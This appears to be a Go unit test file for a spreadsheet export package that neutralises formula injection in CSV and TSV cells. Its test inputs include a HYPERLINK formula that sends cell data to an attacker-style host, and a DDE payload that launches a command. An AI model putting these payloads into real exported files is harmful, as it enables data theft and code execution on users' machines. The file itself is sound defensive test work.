package sheet

import (
	"bytes"
	"strings"
	"testing"
)

func TestSafeNeutralisesFormulasOnly(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example?d="&A1,"x")`: `'=HYPERLINK("https://evil.example?d="&A1,"x")`,
		`+cmd|' /C calc'!A0`:                           `'+cmd|' /C calc'!A0`,
		"-2+3":                                         "'-2+3",
		"@SUM(A1:A9)":                                  "'@SUM(A1:A9)",
		"\t=1+1":                                       "'\t=1+1",
		"\r=1+1":                                       "'\r=1+1",
		"-12.5":                                        "-12.5",
		"+33":                                          "+33",
		"-3,50":                                        "-3,50",
		"-":                                            "'-",
		"Robe d'été":                                   "Robe d'été",
		"a=b":                                          "a=b",
		"":                                             "",
	} {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCopyCSVAndTSVKeepDataAndNeutraliseCells(t *testing.T) {
	var out bytes.Buffer
	src := "sku;title;price\nA-1;\"=HYPERLINK(\"\"http://x\"\")\";-5\nA-2;\"Robe; été\nlongue\";12,5\n"
	if err := CopyCSV(&out, strings.NewReader(src), ';'); err != nil {
		t.Fatal(err)
	}
	want := "sku;title;price\nA-1;\"'=HYPERLINK(\"\"http://x\"\")\";-5\nA-2;\"Robe; été\nlongue\";12,5\n"
	if out.String() != want {
		t.Fatalf("CSV:\n%s\nwant\n%s", out.String(), want)
	}
	out.Reset()
	if err := CopyTSV(&out, strings.NewReader("id\ttitle\nB-1\t+cmd|' /C calc'!A0\nB-2\t\"quoted\" title")); err != nil {
		t.Fatal(err)
	}
	if want := "id\ttitle\nB-1\t'+cmd|' /C calc'!A0\nB-2\t\"quoted\" title"; out.String() != want {
		t.Fatalf("TSV: %q", out.String())
	}
	out.Reset()
	if err := CopyCSV(&out, strings.NewReader("a,\"unterminated\n"), ','); err == nil {
		t.Fatal("a broken CSV copied without error")
	}
}
